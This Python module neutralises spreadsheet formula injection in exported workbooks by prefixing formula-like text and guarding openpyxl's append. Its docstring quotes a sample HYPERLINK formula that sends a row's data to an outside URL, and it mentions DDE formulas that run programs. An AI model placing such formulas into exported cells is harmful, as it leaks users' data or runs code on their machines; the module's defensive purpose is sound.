"""Spreadsheet writing: the one place a workbook is created, so no exported text becomes a formula.

A cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
WPS and LibreOffice as a formula (`=HYPERLINK("http://…?"&A2,"点此")` sends the row away, DDE
formulas run programs). `safe_cell` prefixes such text with `'`, so it is shown as the text it is;
numbers, dates and booleans are left as they are (a real -1 stays the number -1).

`workbook()` returns an openpyxl Workbook whose every sheet passes each appended row through
`safe_cell`; every xlsx writer of the project uses it (tests/core/test_exports.py fails when a module
imports openpyxl's Workbook or the csv writer directly). There is no CSV export; one would write its
rows through `safe_row` as well.
"""

from __future__ import annotations

from openpyxl import Workbook

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value as an inert cell: text that a spreadsheet would read as a formula gets a `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values) -> list:
    return [safe_cell(v) for v in values]


def _guard(sheet):
    append = sheet.append

    def safe_append(values):
        if isinstance(values, dict):
            return append({k: safe_cell(v) for k, v in values.items()})
        return append(safe_row(values))

    sheet.append = safe_append
    return sheet


class SafeWorkbook(Workbook):
    """An openpyxl Workbook whose sheets (the first one and every created one) neutralise formulas
    in `append`. Write cells by `append` only (not `sheet.cell(value=…)` / `sheet["A1"] = …`)."""

    def __init__(self, write_only: bool = False, iso_dates: bool = False):
        super().__init__(write_only=write_only, iso_dates=iso_dates)
        for sheet in self._sheets:
            _guard(sheet)

    def create_sheet(self, title=None, index=None):
        return _guard(super().create_sheet(title, index))


def workbook(*, write_only: bool = False) -> SafeWorkbook:
    """A new workbook for an export, a template or an error report (module lazily imported by callers:
    openpyxl is a slow import)."""
    return SafeWorkbook(write_only=write_only)
